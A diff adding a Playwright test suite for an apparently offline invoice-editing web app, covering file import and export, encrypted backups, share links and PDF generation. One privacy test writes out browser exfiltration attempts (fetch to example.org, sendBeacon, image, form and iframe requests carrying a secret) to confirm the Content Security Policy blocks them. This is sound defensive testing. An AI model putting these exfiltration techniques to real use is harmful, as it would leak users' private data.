@@ -1,0 +1,160 @@
+"""Files in and out, the link, and the promise that nothing typed leaves the device."""
+import json
+import subprocess
+import unittest
+import urllib.parse
+from pathlib import Path
+
+from playwright.sync_api import expect
+
+from studio import PICTURES, StudioTest, World
+
+CANARY = "Zitronenfalter-7741"
+
+
+class Files(StudioTest):
+    def downloaded(self, page, name):
+        with page.expect_download() as download:
+            self.menu(page, name)
+        return download.value
+
+    def choose(self, page, name, files):
+        with page.expect_file_chooser() as chooser:
+            self.menu(page, name)
+        chooser.value.set_files(files)
+
+    def test_json_goes_out_and_in(self):
+        page = self.visit()
+        self.draft(page)
+        file = self.downloaded(page, "Download as JSON")
+        self.assertRegex(file.suggested_filename, r"^Invoice \d{4}-001 Aurora Coffee GmbH\.json$")
+        invoice = json.loads(Path(file.path()).read_text())
+        self.assertEqual(invoice["lines"][0]["price"], "1050.50")
+        other = self.visit(self.profile())
+        self.choose(other, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": json.dumps(invoice).encode()}])
+        expect(self.field(other, "buyer.name")).to_have_value("Aurora Coffee GmbH")
+
+    def test_a_file_that_is_none_is_refused_in_words(self):
+        page = self.visit()
+        self.choose(page, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": b"[1,"}])
+        expect(page.locator("#told")).to_contain_text("ends too early")
+        self.choose(page, "Open a file", [{"name": "a.json", "mimeType": "application/json", "buffer": b'{"seller": [], "lines": 5}'}])
+        expect(page.locator("#told")).to_contain_text("could not be read")
+        self.draft(page)
+
+    def test_lines_go_out_and_in_as_csv(self):
+        page = self.visit()
+        self.draft(page)
+        self.assertIn("Brand identity", Path(self.downloaded(page, "lines as CSV").path()).read_text())
+        self.choose(page, "Add lines from CSV", [{"name": "l.csv", "mimeType": "text/csv", "buffer": "name;quantity;price;vat\n\"Paper; A4\";10;2,50;19\n".encode()}])
+        expect(self.field(page, "lines[1].name")).to_have_value("Paper; A4")
+        expect(page.locator('[data-net="1"]')).to_have_text("€25.00")
+
+    def test_a_backup_brings_everything_to_another_browser(self):
+        page = self.visit()
+        self.draft(page)
+        self.menu(page, "Back up everything")
+        page.get_by_label("Passphrase").fill("correct horse")
+        page.get_by_label("Once more").fill("correct horse")
+        with page.expect_download() as download:
+            page.get_by_role("button", name="Download the backup").click()
+        contents = Path(download.value.path()).read_bytes()
+        self.assertNotIn(b"Aurora", contents)
+        other = self.visit(self.profile())
+        self.choose(other, "Open a file", [{"name": "s.fhstudio", "mimeType": "application/octet-stream", "buffer": contents}])
+        dialog = other.get_by_role("dialog", name="Open a backup")
+        dialog.get_by_label("Passphrase").fill("wrong")
+        dialog.get_by_role("button", name="Open", exact=True).click()
+        expect(dialog.get_by_role("alert")).to_contain_text("not the one of this backup")
+        dialog.get_by_label("Passphrase").fill("correct horse")
+        dialog.get_by_role("button", name="Open", exact=True).click()
+        self.documents(other)
+        expect(other.locator(".document", has_text="Aurora Coffee GmbH")).to_have_count(1)
+
+    def test_a_link_carries_the_document_in_its_fragment(self):
+        page = self.visit()
+        self.draft(page, **{"buyer.name": CANARY})
+        self.menu(page, "Share by link")
+        link = page.get_by_label("Link", exact=True).input_value()
+        self.assertTrue(link.startswith(World.address + "#shared="))
+        self.assertNotIn("?", link)
+        other = self.visit(self.profile(), fragment=link.removeprefix(World.address))
+        expect(self.field(other, "buyer.name")).to_have_value(CANARY)
+        self.assertNotIn("shared", other.url)
+        self.silent()
+
+    def test_nothing_that_is_typed_leaves_the_device(self):
+        page = self.visit()
+        self.draft(page, **{"buyer.name": CANARY, "seller.name": CANARY, "lines[0].name": CANARY, "payments[0].account": CANARY})
+        with page.expect_download():
+            page.locator("#download").click()
+        self.silent()
+        for method, address, _ in self.requests:
+            if not address.startswith("blob:"):
+                self.assertEqual(method, "GET")
+                self.assertTrue(address.startswith(World.address), address)
+        answered = []
+        self.context.on("response", lambda response: answered.append(response.url))
+        # What a script that went wrong would try; the page's own policy refuses each way.
+        blocked = page.evaluate("""async (secret) => {
+            const tries = []
+            document.addEventListener('securitypolicyviolation', (event) => tries.push(event.effectiveDirective))
+            await fetch('/sign-in?' + secret).catch(() => {})
+            await fetch('https://example.org/' + secret).catch(() => {})
+            navigator.sendBeacon('/' + secret)
+            new Image().src = '/' + secret
+            const form = document.createElement('form')
+            form.action = '/' + secret
+            form.target = 'elsewhere'
+            document.body.append(form)
+            form.submit()
+            const frame = document.createElement('iframe')
+            frame.src = 'https://example.org/' + secret
+            document.body.append(frame)
+            await new Promise((resolve) => setTimeout(resolve, 500))
+            return tries
+        }""", CANARY)
+        self.assertEqual(sorted(set(blocked)), ["connect-src", "form-action", "frame-src", "img-src"])
+        self.complaints.clear()
+        self.assertEqual(answered, [])
+
+    def silent(self):
+        forms = {CANARY, urllib.parse.quote(CANARY)}
+        for _, address, body in self.requests:
+            if not address.split("#")[0].startswith("blob:"):
+                self.assertFalse(any(form in address.split("#")[0] or form in (body or "") for form in forms), address)
+
+    # The PDF
+
+    def pdf(self, page, name):
+        with page.expect_download() as download:
+            page.locator("#download").click()
+        path = PICTURES / name
+        download.value.save_as(path)
+        return path, download.value.suggested_filename
+
+    def text(self, path):
+        return subprocess.run(["pdftotext", "-layout", path, "-"], capture_output=True, text=True, check=True).stdout
+
+    def test_the_pdf_is_made_here_with_the_e_invoice_inside(self):
+        page = self.visit()
+        self.draft(page)
+        path, name = self.pdf(page, "studio.pdf")
+        self.assertRegex(name, r"^Invoice \d{4}-001 Aurora Coffee GmbH\.pdf$")
+        self.assertEqual(subprocess.run(["qpdf", "--check", path], capture_output=True).returncode, 0)
+        text = self.text(path)
+        self.assertIn("Brand identity", text)
+        self.assertIn("2,500.19", text)
+        listed = subprocess.run(["pdfdetach", "-list", path], capture_output=True, text=True, check=True).stdout
+        self.assertIn("factur-x.xml", listed)
+
+    def test_an_arabic_invoice(self):
+        page = self.visit()
+        self.draft(page, **{"buyer.name": "شركة النور", "look.language": "ar"})
+        path, _ = self.pdf(page, "studio-arabic.pdf")
+        self.assertIn("النور", self.text(path))
+        page.screenshot(path=PICTURES / "studio-arabic.png")
+
+
+if __name__ == "__main__":
+    unittest.main()
